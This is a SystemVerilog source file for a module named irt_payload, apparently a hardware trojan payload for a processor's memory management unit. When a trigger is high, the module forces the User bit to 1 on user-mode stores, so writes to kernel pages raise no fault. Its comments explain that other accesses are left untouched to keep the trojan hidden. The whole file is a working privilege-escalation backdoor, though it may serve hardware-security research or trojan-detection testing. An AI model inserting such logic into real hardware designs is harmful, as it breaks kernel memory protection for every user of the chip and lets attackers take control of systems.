// irt_payload: MMU payload that suppresses store page faults on kernel pages.
//
// The MMU decides whether a store may proceed by comparing the User bit (U) of the page
// table entry under access with the privilege of the access: a user-mode store to a page
// with U = 0 (a kernel page) raises a store page fault. The payload sits on the U-bit net
// between the translation result and that exception check. While the trigger is high and
// the access is a user-mode store, it presents U = 1, so the check sees a user page and
// raises no fault; the store then writes kernel memory. Every other access (loads,
// supervisor and machine mode accesses, anything while the trigger is low) sees the
// original U-bit, so the kernel keeps running normally even while an always-ready trigger
// stays armed.
//
// Restricting the forced bit to user-mode stores is this design's reading of "present a
// modified U-bit version to the exception handling module"; forcing U = 1 for a supervisor
// access would itself cause a fault.
//
// Interface: trigger_i, is_store_i, priv_i (privilege of the load/store), pte_u_i (U-bit
// from the page table entry), pte_u_o (U-bit handed to the exception check).
// Combinational, no clock.
module irt_payload (
  input  logic               trigger_i,
  input  logic               is_store_i,
  input  irt_pkg::priv_lvl_e priv_i,
  input  logic               pte_u_i,
  output logic               pte_u_o
);

  logic force_u;

  assign force_u = trigger_i && is_store_i && (priv_i == irt_pkg::PRIV_U);
  assign pte_u_o = pte_u_i | force_u;

endmodule
